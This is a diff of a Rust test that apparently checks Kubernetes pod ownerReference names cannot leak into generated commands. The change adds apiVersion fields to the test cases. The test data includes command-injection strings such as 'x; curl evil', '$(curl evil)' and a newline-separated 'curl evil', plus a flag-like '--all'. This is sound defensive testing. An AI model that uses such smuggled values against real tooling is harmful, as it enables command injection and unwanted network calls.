@@ -171,14 +171,13 @@ async fn owners_put_nothing_into_commands() {
         "name": "data", "namespace": "shop", "deletionTimestamp": "2026-01-01T00:10:00Z",
         "finalizers": ["kubernetes.io/pvc-protection"],
     }});
-    for (kind, name) in [
-        ("Job", "--all"),
-        ("Job", "x; curl evil"),
-        ("ReplicaSet", "$(curl evil)"),
-        ("StatefulSet", "x\ncurl evil"),
+    for (api_version, kind, name) in [
+        ("batch/v1", "Job", "--all"),
+        ("batch/v1", "Job", "x; curl evil"),
+        ("apps/v1", "ReplicaSet", "$(curl evil)"),
+        ("apps/v1", "StatefulSet", "x\ncurl evil"),
     ] {
-        let owner =
-            json!({"apiVersion": "v1", "kind": kind, "name": name, "uid": "o", "controller": true});
+        let owner = json!({"apiVersion": api_version, "kind": kind, "name": name, "uid": "o", "controller": true});
         let pod = json!({
             "metadata": {"name": "web", "namespace": "shop", "ownerReferences": [owner]},
             "spec": {"nodeName": "node", "containers": [],
